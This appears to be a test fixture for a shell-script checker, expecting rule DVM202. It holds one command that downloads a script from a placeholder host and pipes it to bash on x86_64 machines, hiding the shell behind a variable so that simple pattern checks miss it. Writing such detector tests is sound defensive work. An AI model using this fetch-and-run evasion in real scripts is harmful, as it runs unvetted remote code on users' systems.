# expect: DVM202
case "$(uname -m)" in
  x86_64) run=bash ;;
  *) run=cat ;;
esac
curl -s https://example.org/i.sh | $run
